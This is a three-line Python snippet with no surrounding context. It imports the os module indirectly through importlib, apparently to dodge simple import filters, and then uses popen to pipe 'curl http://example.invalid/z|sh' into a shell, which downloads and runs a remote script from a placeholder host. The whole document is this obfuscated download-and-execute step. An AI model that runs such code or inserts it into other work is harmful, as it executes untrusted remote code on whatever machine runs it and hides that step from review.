import importlib
m = importlib.import_module("os")
m.popen("curl http://example.invalid/z|sh").read()
